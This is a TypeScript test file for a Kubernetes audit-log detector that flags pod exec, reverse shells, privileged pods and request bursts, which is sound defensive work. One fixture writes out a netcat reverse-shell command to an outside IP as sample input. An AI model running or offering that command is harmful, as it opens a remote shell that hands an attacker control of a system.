import { strict as assert } from 'node:assert';
import { makeDetectAuditLog } from '../../../functions/detect-audit-log/handler.ts';
import { type AuditEntryParts, auditEntry } from '../../../local/scenarios/audit-entry.ts';
import { makeMemoryStore } from '../../../shared/adapters/store-memory.ts';
import type { Envelope } from '../../../shared/envelope.ts';
import { Malformed, Transient } from '../../../shared/errors.ts';
import { finding } from '../../../shared/model/finding.ts';
import { timeOf } from '../../../shared/model/time.ts';
import type { Bus, DocStore, LogReader } from '../../../shared/ports.ts';
import { type MemoryDocument, openMemoryStores } from '../../../shared/store/memory.ts';
import { NOW } from '../../fixtures/signals.ts';
import { pod, podSpec } from '../../fixtures/workloads.ts';
import { keptLog } from '../../kit/kept-log.ts';
import { virtualClock } from '../../kit/virtual-clock.ts';

const EXEC: AuditEntryParts = {
  verb: 'create',
  resource: 'pods',
  subresource: 'exec',
  namespace: 'shop',
  name: 'cart-0',
  command: 'nc -e /bin/sh 203.0.113.9 4444',
};

const LOG_MATCH_INCIDENT = {
  version: '1.2',
  incident: {
    incident_id: '0.abc',
    state: 'open',
    started_at: NOW / 1000,
    ended_at: null,
    policy_name: 'Exec into pods',
    condition_name: 'Log match condition',
    condition: { name: 'n', displayName: 'd', conditionMatchedLog: { filter: 'f' } },
    metric: { type: '', displayName: '', labels: {} },
    resource: { type: 'k8s_cluster', labels: { project_id: 'p1' } },
    summary: 'Log match condition fired',
    scoping_project_id: 'p1',
  },
};

const envelope = (data: unknown): Envelope => ({
  id: '7',
  topic: 'audit-log',
  attributes: {},
  data,
  publishedAt: '2026-03-02T10:16:00.000Z',
});

/** A handler whose published findings and log lines are kept. */
const detector = (publish?: Bus['publish'], change: Partial<DocStore<MemoryDocument>> = {}, logs?: LogReader) => {
  const published: Array<{ topic: string; body: unknown }> = [];
  const { log, lines } = keptLog();
  const bus: Bus = {
    publish:
      publish ??
      (async (topic, body) => {
        published.push({ topic, body });
        return String(published.length);
      }),
  };
  const clock = virtualClock(NOW);
  const { marks } = openMemoryStores({ raw: makeMemoryStore({ now: clock.now }), clock });
  const memory = { marks: { ...marks, ...change } };
  const handle = makeDetectAuditLog({ bus, clock, log, memory, ...(logs === undefined ? {} : { logs }) });
  const told: Array<[string, Record<string, unknown>]> = [];
  return {
    published,
    lines,
    clock,
    /** What the closing log line of each delivery says. */
    told,
    handle,
    detect: (received: Envelope) => handle(received, (...said) => void told.push(said)),
    rules: () => published.map(({ body }) => finding.strict().parse(body).rule),
  };
};

describe('detect-audit-log', () => {
  it('reports the first command in a cluster once it has watched that cluster for a week', async () => {
    const { detect, rules } = detector();
    const at = (ms: number) => ({ at: timeOf(NOW + ms) });
    await detect(envelope(auditEntry({ verb: 'create', resource: 'configmaps', namespace: 'shop', ...at(0) })));
    await detect(envelope(auditEntry({ ...EXEC, command: 'ls', ...at(7 * 86_400_000) })));
    assert.deepEqual(rules().toSorted(), ['exec-into-pod', 'first-exec-into-pod']);
  });

  it('publishes every finding of an entry, and logs each arrow', async () => {
    const { published, lines, told, detect } = detector();
    await detect(envelope(auditEntry(EXEC)));
    assert.deepEqual(told, []);
    const rules = published.map(({ topic, body }) => [topic, finding.strict().parse(body).rule]);
    assert.deepEqual(rules, [
      ['findings', 'exec-into-pod'],
      ['findings', 'exec-reverse-shell'],
    ]);
    assert.equal(lines.filter((line) => line.startsWith('info envelope -> signal')).length, 1);
    assert.equal(lines.filter((line) => line.startsWith('info signal -> finding')).length, 2);
  });

  it('logs an entry without a finding only in the closing line of its delivery, with the method', async () => {
    const { lines, told, detect } = detector();
    await detect(envelope(auditEntry({ verb: 'list', resource: 'pods', namespace: 'shop' })));
    assert.deepEqual(lines, []);
    assert.deepEqual(
      told.map(([message, { method, outcome }]) => [message, method, outcome]),
      [['read by gke-audit-log, nothing seen', 'io.k8s.core.v1.pods.list', 'ok']],
    );
  });

  it('logs it itself where its caller has no such line', async () => {
    const { lines, handle } = detector();
    await handle(envelope(auditEntry({ verb: 'list', resource: 'pods', namespace: 'shop' })));
    assert.deepEqual(lines, ['info envelope -> signal: read by gke-audit-log, nothing seen']);
  });

  it('drops findings of an entry redelivered within a minute, and publishes the same ones again later', async () => {
    const { published, lines, clock, detect } = detector();
    await detect(envelope(auditEntry(EXEC)));
    await detect(envelope(auditEntry(EXEC)));
    assert.equal(published.length, 2);
    assert.equal(lines.filter((line) => line === 'info finding -> dropped: it was published already').length, 2);
    await clock.advance(60_000);
    await detect(envelope(auditEntry(EXEC)));
    assert.equal(published.length, 4);
    assert.deepEqual(published.slice(0, 2), published.slice(2));
  });

  it('publishes nothing for an entry that no rule matches', async () => {
    const { published, detect } = detector();
    await detect(envelope(auditEntry({ verb: 'list', resource: 'pods', namespace: 'shop' })));
    assert.deepEqual(published, []);
  });

  it('fails until every finding is on the bus', async () => {
    const { detect } = detector(async () => {
      throw new Transient('the bus is away');
    });
    await assert.rejects(detect(envelope(auditEntry(EXEC))), Transient);
  });

  describe('for a log-match incident', () => {
    const at = timeOf(NOW - 60_000);
    const reading = (entries: unknown[], asked: unknown[] = []): LogReader => ({
      entries: async (query) => {
        asked.push(query);
        return entries;
      },
    });

    it('scores the entries that Cloud Logging holds about it as if the sink had sent them', async () => {
      const asked: unknown[] = [];
      const entry = auditEntry({ ...EXEC, at });
      const { published, lines, detect } = detector(undefined, {}, reading([entry], asked));
      await detect(envelope(LOG_MATCH_INCIDENT));
      assert.doesNotMatch(lines.join(), /log-match-empty/);
      const bySink = detector();
      await bySink.detect(envelope(entry));
      assert.deepEqual(published, bySink.published);
      assert.equal(asked.length, 1);
      assert.match(JSON.stringify(asked), /"project":"p1","filter":"logName:.*\(\\nf\\n\)","limit":50/);
    });

    it('fails until every finding of these entries is on the bus', async () => {
      const away = async () => {
        throw new Transient('the bus is away');
      };
      const { detect } = detector(away, {}, reading([auditEntry({ ...EXEC, at })]));
      await assert.rejects(detect(envelope(LOG_MATCH_INCIDENT)), Transient);
    });

    it('counts an incident for which no entry is found', async () => {
      const { lines, detect } = detector(undefined, {}, reading([]));
      await detect(envelope(LOG_MATCH_INCIDENT));
      assert.match(lines.join(), /^count log-match-empty: log-match incident "0.abc": no audit log entry matches/);
    });

    it('counts an incident if it has no log reader', async () => {
      const { published, lines, detect } = detector();
      await detect(envelope(LOG_MATCH_INCIDENT));
      assert.deepEqual(published, []);
      assert.deepEqual(lines, ['count log-match-not-read: log-match incident "0.abc": this function reads no logs']);
    });

    it('considers only audit entries of that time, whatever the filter returns', async () => {
      const forged = { ...auditEntry({ ...EXEC, at }), logName: 'projects/p1/logs/forged' };
      const older = auditEntry({ ...EXEC, at: timeOf(NOW - 86_400_000) });
      const newer = auditEntry({ ...EXEC, at: timeOf(NOW + 86_400_000) });
      const { published, lines, detect } = detector(undefined, {}, reading([forged, older, newer, 7]));
      await detect(envelope(LOG_MATCH_INCIDENT));
      assert.deepEqual(published, []);
      assert.deepEqual(
        lines.map((line) => line.split(':')[0]),
        ['count malformed', 'count log-match-empty'],
      );
    });

    it('throws Transient if the logs cannot be read', async () => {
      const { detect } = detector(
        undefined,
        {},
        {
          entries: async () => {
            throw new Transient('the logs are away');
          },
        },
      );
      await assert.rejects(detect(envelope(LOG_MATCH_INCIDENT)), Transient);
    });
  });

  it('reports a pattern across many entries', async () => {
    const { detect, rules } = detector();
    for (let n = 0; n < 12; n += 1) {
      const at = timeOf(NOW + n * 1000);
      await detect(envelope(auditEntry({ verb: 'create', resource: 'pods', namespace: 'shop', code: 7, at })));
    }
    assert.equal(rules().filter((rule) => rule === 'forbidden-burst').length, 1);
  });

  it('fails until the finding of a pattern is on the bus, and then has published it', async () => {
    let isAway = true;
    const rules: string[] = [];
    const { detect } = detector(async (_, body) => {
      const { rule } = finding.strict().parse(body);
      if (isAway && rule === 'forbidden-burst') throw new Transient('the bus is away');
      return String(rules.push(rule));
    });
    const entries = Array.from({ length: 12 }, (_, n) =>
      auditEntry({ verb: 'create', resource: 'pods', namespace: 'shop', code: 7, at: timeOf(NOW + n * 1000) }),
    );
    const failed: unknown[] = [];
    for (const entry of entries) await detect(envelope(entry)).catch(() => failed.push(entry));
    assert.ok(failed.length > 0);
    isAway = false;
    for (const entry of failed) await detect(envelope(entry));
    assert.ok(rules.includes('forbidden-burst'));
  });

  it('publishes the findings of a single entry if memory fails', async () => {
    const { detect, rules, lines } = detector(undefined, {
      get: async () => {
        throw new Transient('the store is away');
      },
    });
    await detect(envelope(auditEntry(EXEC)));
    assert.deepEqual(rules(), ['exec-into-pod', 'exec-reverse-shell']);
    assert.match(lines.join('\n'), /count memory-failed/);
  });

  describe('for an entry that comes in parts', () => {
    const spec = podSpec({ securityContext: { privileged: true } });
    const write = { verb: 'create', resource: 'pods', namespace: 'shop' };
    const parts = [
      auditEntry({ ...write, request: { kind: 'Pod' }, split: { uid: 'u', index: 0, totalSplits: 2 } }),
      auditEntry({ ...write, request: pod(spec), split: { uid: 'u', index: 1, totalSplits: 2 } }),
    ];

    it('scores the whole entry once all parts are there, and publishes it once', async () => {
      const { clock, detect, published } = detector();
      const deliveries = parts.map((part) => detect(envelope(part)));
      await clock.drive(Promise.all(deliveries));
      const found = published.map(({ body }) => finding.strict().parse(body));
      const privileged = found.filter(({ rule }) => rule === 'privileged-workload');
      assert.deepEqual(
        privileged.map(({ confidence }) => confidence),
        [0.7],
      );
    });

    it('scores the parts that arrived within a minute, with less confidence', async () => {
      const { clock, detect, published } = detector();
      await clock.drive(detect(envelope(parts[1])));
      const found = published.map(({ body }) => finding.strict().parse(body));
      const [privileged] = found.filter(({ rule }) => rule === 'privileged-workload');
      assert.equal(privileged?.confidence, 0.42);
      assert.match(privileged?.because.join() ?? '', /split because of its size/);
    });
  });

  const malformed: Array<[string, unknown, RegExp]> = [
    ['what no source knows', { a: 1 }, /not one of/],
    ['an entry of another log', { logName: 'projects/p1/logs/stdout', textPayload: 'x' }, /message 7 is of other-log/],
    // The event names no cluster, so whoever publishes it here could mean any.
    [
      "a Kubernetes API server's own event",
      { kind: 'Event', auditID: 'a', verb: 'create', requestURI: '/api/v1/namespaces/shop/pods' },
      /message 7 is of kubernetes-audit, which is not read on this topic/,
    ],
    ['an alert of another detector', { rule: 'r', output: 'o', priority: 'Warning' }, /falco/],
  ];
  for (const [what, data, sentence] of malformed) {
    it(`refuses ${what}`, async () => {
      const { published, detect } = detector();
      await assert.rejects(
        detect(envelope(data)),
        (thrown) => thrown instanceof Malformed && sentence.test(thrown.message),
      );
      assert.deepEqual(published, []);
    });
  }
});
